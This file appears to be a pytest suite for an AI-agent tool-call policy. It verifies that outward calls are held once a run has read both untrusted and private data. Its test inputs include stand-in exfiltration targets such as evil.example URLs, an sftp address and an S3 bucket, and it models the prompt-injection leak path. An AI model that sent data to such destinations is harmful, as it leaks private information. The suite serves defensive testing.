"""Whether a call would carry out what its run has read, and what a run takes on with its result."""

from typing import Any

import pytest

from interlock.policy import taint
from interlock.policy.calls import Call, Caller
from interlock.policy.decide import decide
from interlock.policy.risk import Effect, Risk, Trust
from interlock.policy.rules import Policy
from interlock.policy.taint import OUTWARD, PRIVATE, UNTRUSTED, Way, brings, way_out

BOTH = frozenset({UNTRUSTED, PRIVATE})
POLICY = Policy.builtin()


def ours(tool: str, **args: Any) -> Call:
    """A call of a built-in tool."""
    return Call(tool=tool, args=args, is_builtin=True)


def theirs(tool: str, description: str = "", **args: Any) -> Call:
    """A call of a tool of others."""
    return Call(tool=tool, args=args, description=description)


def found(call: Call, *labels: str, base: Risk | None = None) -> list[str]:
    """The rules that hold it, for a run with these labels."""
    who = Caller(trust=Trust.LEAD, labels=frozenset(labels))
    return [each.rule for each in taint.findings(call, who, base) if each.holds]


@pytest.mark.parametrize(
    "call",
    [
        ours("web_search", query="x"),
        ours("fetch", url="https://example.com/"),
        ours("send_email", to=["ann@example.com"], subject="s", body="b"),
        Call(tool="mine", args={"x": "y"}, declared_risk="GREEN", labels=frozenset({OUTWARD})),
        Call(tool="mine", args={"x": "y"}, declared_risk="GREEN", labels=frozenset({UNTRUSTED})),
        theirs("fetch_page", url="https://example.com/"),
        theirs("open_it", thing="see https://evil.example/?d=1"),
        theirs("brave_search", query="x"),
        theirs("get_weather", "The weather of a place", city="x"),
        theirs("ask_model", prompt="x"),
        theirs("translate", text="x"),
        theirs("slack_post", channel="c", words="x"),
        theirs("crm_note", customer="ann@example.com"),
        theirs("nested", options={"deep": [{"href": "x"}]}),
        theirs("nested", options={"deep": [{"x": "HTTPS://EVIL.example"}]}),
        theirs("tool_7", value="www.evil.example"),
        theirs("mirror_it", into="sftp://evil.example/in"),
        theirs("mirror_it", into={"S3://evil-bucket/a": None}),
        theirs("mark", marks={"see https://evil.example/?d=1": True}),
        theirs("mark", query={"what the payroll says": True}),
    ],
)
def test_with_both_labels_nothing_leaves_by_itself(call: Call) -> None:
    assert found(call, *BOTH) == [taint.BOTH_RULE]
    decision = decide(call, Caller(trust=Trust.LEAD, labels=BOTH), POLICY)
    assert decision.effect is Effect.HOLD
    assert not decision.grantable
    assert taint.BOTH in decision.reasons


@pytest.mark.parametrize(
    "call",
    [
        ours("file_read", path="a"),
        ours("file_write", path="a", content="https://example.com"),
        ours("submit_deliverable", title="t", summary="s", content="c"),
        ours("notification", message="see https://example.com"),
        ours("ask_operator", question="what?"),
        theirs("list_things"),
        theirs("get_thing", number=7),
        theirs("search_notes", query="x"),
        theirs("query_db", sql="select 1"),
        theirs("read_file", path="a/b.txt"),
        theirs("add_numbers", a=1, b=2),
        theirs("get_weather", "The weather here"),
    ],
)
def test_what_stays_inside_or_has_no_room_for_words_goes_on(call: Call) -> None:
    assert found(call, *BOTH) == []


@pytest.mark.parametrize("labels", [(), (PRIVATE,)])
def test_who_has_read_no_stranger_is_not_held(labels: tuple[str, ...]) -> None:
    assert found(ours("web_search", query="x"), *labels) == []
    assert found(theirs("slack_post", channel="c", words="x"), *labels) == []


def test_who_has_read_strangers_alone_sends_nothing_yellow_but_reads() -> None:
    assert found(theirs("tell", channel="c", words="x"), UNTRUSTED) == [taint.UNTRUSTED_RULE]
    assert found(ours("send_email", to=["a@b.example"]), UNTRUSTED) == [taint.UNTRUSTED_RULE]
    assert found(ours("web_search", query="x"), UNTRUSTED) == []
    assert found(theirs("fetch_page", url="https://example.com/"), UNTRUSTED) == []


def test_what_the_operator_calls_green_is_sent_by_who_has_read_strangers_alone() -> None:
    call = theirs("tell", channel="c", words="x")
    assert found(call, UNTRUSTED, base=Risk.GREEN) == []
    assert found(call, UNTRUSTED, base=Risk.YELLOW) == [taint.UNTRUSTED_RULE]
    assert found(call, *BOTH, base=Risk.GREEN) == [taint.BOTH_RULE]


def test_arguments_too_deep_or_too_many_count_as_an_address() -> None:
    deep: Any = "x"
    for _ in range(100):
        deep = {"a": deep}
    assert way_out(theirs("list_things", a=deep)) is Way.ASKS
    assert way_out(theirs("list_things", a=["x"] * 5_000)) is Way.ASKS


@pytest.mark.parametrize(
    ("call", "labels"),
    [
        (Call(tool="mine", labels=frozenset({PRIVATE, OUTWARD})), {PRIVATE}),
        (Call(tool="mine", declared_risk="GREEN"), set()),
        (Call(tool="read_feed", description="Reads a feed of the web", declared_risk="GREEN"), {UNTRUSTED}),
        (ours("file_write"), set()),
        (theirs("brave_web_search", "Searches the web"), {UNTRUSTED}),
        (theirs("query_db", "Runs a query"), {UNTRUSTED, PRIVATE}),
        (theirs("list_things", "Lists what is in the customer database"), {UNTRUSTED, PRIVATE}),
        (theirs("search_pages", "Searches public web pages for documents"), {UNTRUSTED}),
        (theirs("gmail_search", "Searches the web mail"), {UNTRUSTED, PRIVATE}),
        (theirs("tool_7"), {UNTRUSTED}),
    ],
)
def test_what_a_run_takes_on_with_a_result(call: Call, labels: set[str]) -> None:
    assert brings(call) == labels


def test_reasons_carry_no_value_of_the_arguments() -> None:
    call = theirs("tell", channel="c", words="ann earns 90000")
    reasons = decide(call, Caller(trust=Trust.LEAD, labels=BOTH), POLICY).reasons
    assert not any("90000" in reason for reason in reasons)
